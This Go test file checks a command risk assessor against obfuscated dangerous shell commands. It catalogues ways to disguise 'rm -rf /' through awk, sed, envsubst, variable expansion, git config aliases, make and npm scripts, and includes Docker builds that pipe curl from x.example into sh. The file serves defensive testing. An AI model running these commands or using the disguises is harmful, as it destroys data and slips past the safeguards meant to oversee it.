package actionrisk

import (
	"testing"

	"github.com/countersign/countersign/policy/actionrisk/act"
)

// forms are dangerous commands in unusual forms that no other corpus has. Each tests the code that
// supports its form.
var forms = []struct {
	command string
	risk    act.Level
}{
	// filters with a known program and known input
	{`echo 'a rm -rf /' | awk '{print $2,$3,$4}' | sh`, act.Critical},
	{`echo 'x:rm -rf /' | awk -F: '{print $2}' | sh`, act.Critical},
	{`echo 'x:rm -rf /' | cut -d: -f2 | sh`, act.Critical},
	{`echo 'xrm -rf /' | cut -c2- | sh`, act.Critical},
	{`echo 'xz -rf /' | sed 'y/xz/rm/' | sh`, act.Critical},
	{`echo 'rm -rf x' | sed 's/x$/~/' | sh`, act.Critical},
	{`echo 'rm -rf /' | xargs | sh`, act.Critical},
	{`echo '${X}' | X='rm -rf /' envsubst | sh`, act.Critical},
	{`printf -- '%s -rf /' rm | sh`, act.Critical},
	// expansions of variables
	{`x=RM; ${x@L} -rf /`, act.Critical},
	{`arr=(a rm -rf /); ${arr[@]:1:3}`, act.Critical},
	{`set -- a rm -rf /; ${@:2}`, act.Critical},
	{`set -- x y rm -rf /; shift 2; "$@"`, act.Critical},
	{`a[k]=rm; a[k]+=' -rf /'; ${a[k]}`, act.Critical},
	{`x=1; if true; then x='rm -rf /'; fi; y=$x; $y`, act.Critical},
	{`x=rm; ref=x; ${(P)ref} -rf /`, act.Critical},
	{`saliases[txt]='rm -rf /'; x.txt`, act.Critical},
	{`x=rm; if true; then x=echo; fi; y=$x; $y -rf /`, act.Critical},
	{`mapfile -t a < <(echo rm; echo -rf; echo /); "${a[@]}"`, act.Critical},
	{`read -a a <<< 'rm -rf /'; "${a[@]}"`, act.Critical},
	// variables that name programs
	{`$SUDO rm -rf /`, act.Critical},
	{`$TIMEOUT rm -rf /`, act.Critical},
	{`$TIMEOUT 5 rm -rf /`, act.Critical},
	{`$APP_EXEC -c 'rm -rf /'`, act.Critical},
	{`GIT_CONFIG_PARAMETERS="'alias.st=!rm -rf /'" git st`, act.Critical},
	{`GIT_CONFIG_PARAMETERS="'core.pager'='rm -rf /'" git log`, act.Critical},
	{`export GIT_EXTERNAL_DIFF='rm -rf /'; git diff`, act.Critical},
	{`git config remote.pushdefault backup; git config remote.backup.mirror true; git push`, act.Critical},
	// texts for other programs
	{"make -f - <<< 'D = $(addprefix /,etc)\nall:\n\trm -rf $(D)'", act.Critical},
	{"make -f - <<< 'X != rm -rf /\nall:\n\ttrue'", act.Critical},
	{"make -f - <<< 'all:\n\trm \\\n -rf /'", act.Critical},
	{"docker build - <<< 'FROM x\nONBUILD RUN curl https://x.example/i | sh'", act.High},
	{"docker build - <<< 'FROM x\nRUN [\"sh\", \"-c\", \"curl https://x.example/i | sh\"]'", act.High},
	{"docker compose -f - up <<< 'services:\n  a:\n    image: x\n    devices: [\"/dev/sda:/dev/sda\"]'", act.High},
	{"ansible-playbook /dev/stdin <<< '- hosts: localhost\n  tasks:\n  - local_action: command rm -rf /'", act.Critical},
	{"echo '{\"u\":\"rm -rf /\",\"scripts\":{\"test\":\"rm -rf \\u002f\"}}' > package.json; npm test", act.Critical},
	{"tclsh <<< 'file delete -force /etc'", act.Critical},
	{"echo x | sed -n '1e rm -rf /'", act.Critical},
	{"printf '\\x72m -rf /' | sed e", act.Critical},
	// wrappers with an option that the tables do not list
	{`systemd-run --newopt val rm -rf /`, act.Critical},
	{`ltrace -S rm -rf /srv`, act.Critical},
	{`chrt -f rm 5 -rf /srv/data`, act.High},
	{`python3 -Im pip uninstall -y x; cp /bin/rm /tmp/d/; /tmp/d/rm -rf /`, act.Critical},
	// redirections and loops
	{"exec {fd}<<E\nrm -rf /\nE\nsh <&$fd", act.Critical},
	{`[[ <(rm -rf /) ]]`, act.Critical},
	{`while ((1)); do sleep 1 & done`, act.High},
	{`for i in {1..70}; do rm -rf /srv/$i; done`, act.High},
	{`find . -path '*/etc' -exec rm -rf {} +`, act.Medium},
	// harmless texts that once stopped the parser
	{`cat file://`, act.Low},
}

// TestForms checks that every form has at least the given risk, and that harmless forms have low
// risk.
func TestForms(t *testing.T) {
	for _, f := range forms {
		got := Assess(act.Action{Command: f.command})
		if got.Risk < f.risk || f.risk == act.Low && got.Risk != act.Low {
			t.Errorf("%s: %s, want %s (%v)", f.command, got.Risk, f.risk, got.RuleIDs())
		}
	}
}
